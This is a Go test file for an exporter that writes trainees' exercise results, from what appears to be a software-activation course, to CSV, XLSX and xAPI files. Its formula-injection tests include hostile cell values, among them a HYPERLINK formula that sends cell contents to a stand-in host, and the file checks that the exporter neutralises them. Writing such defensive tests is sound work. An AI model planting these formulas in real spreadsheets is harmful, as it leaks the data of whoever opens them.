package export

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// readCSV reads a file back, without its byte order mark.
func readCSV(t testing.TB, rows []Row, o Options) [][]string {
	t.Helper()
	var out bytes.Buffer
	require.NoError(t, CSV(&out, rows, o))
	file, marked := strings.CutPrefix(out.String(), "\uFEFF")
	require.True(t, marked, "Excel needs the byte order mark")
	lines, err := csv.NewReader(strings.NewReader(file)).ReadAll()
	require.NoError(t, err)
	return lines
}

func TestCSV(t *testing.T) {
	assert.Equal(t, [][]string{
		{"班级", "学员编号", "练习", "开始（北京时间）", "结束（北京时间）", "用时（分钟）", "等级", "得分", "达成目标", "登录的云账号", "企业", "产品和账套",
			"产品序列号和CDKey", "激活前再核对一遍", "激活后看授权信息", "出现的失效模式", "已补救的失效模式", "提示次数"},
		{"KMRT", "T01", exercise("wrong-account").Title.ZhCN, "2026-03-02 09:00:00", "2026-03-02 09:04:20", "4.3", "优秀", "97", "是",
			"已核对", "不要求", "不要求", "不要求", "已核对", "不要求", "", "", "1"},
		{"KMRT", "T02", exercise("wrong-account").Title.ZhCN, "2026-03-02 09:00:00", "2026-03-02 10:01:30", "61.5", "再练一次", "62", "否",
			"看过但没有发现", "不要求", "不要求", "不要求", "未核对", "不要求",
			"登录了别人的云账号；登录了别人的云账号（已补救）；序列号或CDKey不对（被拒绝，没有造成后果）", "登录了别人的云账号", "0"},
		{"KMRT", "T01", exercise("wrong-product").Title.ZhCN, "2026-03-02 09:10:00", "", "", "进行中", "", "否",
			"已核对", "不要求", "不要求", "不要求", "未核对", "不要求", "", "", "0"},
	}, readCSV(t, small(), Options{}))
}

func TestCSVInEnglishWithNames(t *testing.T) {
	lines := readCSV(t, small(), Options{Lang: "en", Names: true})
	assert.Equal(t, []string{"Class", "Trainee", "Name", "Exercise", "Started (UTC+8)", "Finished (UTC+8)", "Minutes", "Grade", "Points", "Goal reached",
		"Account signed in", "Organization", "Product and account sets", "Serial number and CDKey", "Comparing once more before activation",
		"Licence information after activation", "Failure modes", "Put right", "Hints"}, lines[0])
	assert.Equal(t, []string{"KMRT", "T02", "李雷", exercise("wrong-account").Title.En, "2026-03-02 09:00:00", "2026-03-02 10:01:30", "61.5", "try again", "62", "no",
		"looked, not seen", "not asked", "not asked", "not asked", "not made", "not asked",
		"Signed in with another account; Signed in with another account (put right); Wrong serial number or CDKey (refused, nothing came of it)",
		"Signed in with another account", "0"}, lines[2])
}

// TestLinesEndAsExcelWantsThem: RFC 4180 says CRLF.
func TestLinesEndAsExcelWantsThem(t *testing.T) {
	var out bytes.Buffer
	require.NoError(t, CSV(&out, small(), Options{}))
	assert.Equal(t, 4, strings.Count(out.String(), "\r\n"))
	assert.Equal(t, 4, strings.Count(out.String(), "\n"))
}

func TestAnEmptyClassHasAHeading(t *testing.T) {
	assert.Len(t, readCSV(t, nil, Options{}), 1)
}

func TestNamesAreNoFormulas(t *testing.T) {
	for _, c := range []struct{ is, want string }{
		{"王芳", "王芳"},
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://a.example?"&A1,"x")`, `'=HYPERLINK("http://a.example?"&A1,"x")`},
		{"+86", "'+86"},
		{"-1", "'-1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"＝1", "'＝1"},
		{"＋1", "'＋1"},
		{"－1", "'－1"},
		{"＠A", "'＠A"},
		{"\t=1", "'=1"}, // names lose their control characters before
		{"\r=1", "'=1"},
		{" =1", "'=1"},
		{"\u200e=1", "'=1"},
		{"\uFEFF=1", "'=1"},
		{"\x00=1", "'=1"},
		{"\xff=1", "\uFFFD=1"},
		{"Anne-Marie", "Anne-Marie"},
		{`a"b,c`, `a"b,c`},
		{"two\nlines", "two lines"},
		{"\u202eevil", "evil"},
	} {
		row := small()[0]
		row.Name = c.is
		assert.Equal(t, c.want, readCSV(t, []Row{row}, Options{Names: true})[1][2], "%q", c.is)
	}
}

// TestTitlesAreNoFormulas: exercises are files of a trainer, and their texts are cells too.
func TestTitlesAreNoFormulas(t *testing.T) {
	for is, want := range map[string]string{"\t1": "'\t1", "\r1": "'1", "\n1": "'\n1", "  =1": "'  =1", " 1": " 1", "": ""} {
		row := small()[0]
		row.Exercise.Title.ZhCN = is
		assert.Equal(t, strings.ReplaceAll(want, "\r", ""), strings.ReplaceAll(readCSV(t, []Row{row}, Options{})[1][2], "\r", ""), "%q", is)
	}
}

func TestAClockThatWasSetBack(t *testing.T) {
	row := small()[0]
	row.Finished = row.Started.Add(-time.Hour)
	assert.Equal(t, "0.0", readCSV(t, []Row{row}, Options{})[1][5])
}

// full is a disk without room after a few bytes.
type full struct{ room int }

func (f *full) Write(p []byte) (int, error) {
	if f.room -= len(p); f.room < 0 {
		return 0, errors.New("disk full")
	}
	return len(p), nil
}

// kinds are the three files.
func kinds() map[string]func(io.Writer, []Row, Options) error {
	return map[string]func(io.Writer, []Row, Options) error{"CSV": CSV, "XLSX": XLSX, "XAPI": XAPI}
}

func TestAFullDiskIsToldOf(t *testing.T) {
	many := make([]Row, 0, 100)
	for range 100 {
		many = append(many, small()[1])
		many[len(many)-1].World += strings.Repeat("x", len(many))
	}
	for name, write := range kinds() {
		for _, room := range []int{0, 5, 4100} {
			require.ErrorContains(t, write(&full{room: room}, many, Options{}), "disk full", "%s with %d bytes", name, room)
		}
	}
}

func TestSameRowsSameBytes(t *testing.T) {
	for name, write := range kinds() {
		var first bytes.Buffer
		require.NoError(t, write(&first, small(), Options{Names: true}))
		for range 10 {
			var again bytes.Buffer
			require.NoError(t, write(&again, small(), Options{Names: true}))
			require.True(t, bytes.Equal(first.Bytes(), again.Bytes()), name)
		}
	}
}

func TestRowsThatLackSomething(t *testing.T) {
	for name, write := range kinds() {
		for what, spoil := range map[string]func(*Row){
			"pseudonym": func(r *Row) { r.ID = "" },
			"exercise":  func(r *Row) { r.Exercise.ID = "" },
			"start":     func(r *Row) { r.Started = time.Time{} },
		} {
			rows := small()
			spoil(&rows[1])
			require.ErrorContains(t, write(io.Discard, rows, Options{}), "row 2 ", "%s without %s", name, what)
		}
	}
}

func FuzzCSV(f *testing.F) {
	for _, seed := range []string{"王芳", "=1", "\t@", "a\"b\r\nc", "\xff\xfe", "\u202e\ufeff-"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, name string) {
		row := small()[0]
		row.Name, row.Exercise.Title.ZhCN = name, name
		lines := readCSV(t, []Row{row}, Options{Names: true})
		require.Len(t, lines, 2)
		require.Len(t, lines[1], len(lines[0]))
		for _, cell := range lines[1][2:4] {
			bare := strings.TrimSpace(cell)
			require.False(t, bare != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(bare)[0]), "%q", cell)
		}
	})
}
